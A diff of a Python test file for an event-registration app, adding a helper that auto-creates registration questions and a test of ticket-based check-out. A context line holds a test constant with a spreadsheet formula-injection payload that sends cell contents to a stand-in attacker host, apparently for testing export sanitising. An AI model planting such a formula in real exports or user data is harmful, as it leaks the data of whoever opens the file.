@@ -36,6 +36,12 @@ INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 
 
 def register(activity, person, **answers):
+    """Register `person`, answering the activity's questions (asked first if it has none)."""
+    activity.refresh_from_db()
+    asked = {q["label"] for q in activity.questions}
+    new = [{"label": k, "required": False, "choices": []} for k in answers if k not in asked]
+    if new:
+        Activity.objects.filter(pk=activity.pk).update(questions=[*activity.questions, *new])
     return services.registration_create(activity_id=activity.pk, actor=person, answers=answers)
 
 
@@ -544,3 +550,20 @@ def test_an_export_is_audited(client, approver):
     client.get(reverse("activities:registrations_export", args=[activity.pk, "xlsx"]))
     event = AuditEvent.objects.get(action="registrations.exported")
     assert (event.actor, event.payload) == (staff, {"format": "xlsx", "rows": 1})
+
+
+def test_the_door_checks_out_by_the_typed_code(client, approver):
+    activity, staff = published_activity(approver)
+    person = UserFactory(display_name="李四")
+    registration = services.registration_create(activity_id=activity.pk, actor=person)
+    client.force_login(staff)
+    url = reverse("activities:check_in", args=[activity.pk])
+    client.post(url, {"ticket": registration.ticket_token})
+    answer = client.post(
+        url,
+        {"ticket": registration.ticket_token, "mode": "out"},
+        HTTP_ACCEPT="application/json",
+    ).json()
+    assert (answer["ok"], answer["code"], answer["name"]) == (True, "checked_out", "李四")
+    registration.refresh_from_db()
+    assert registration.checked_out_at is not None
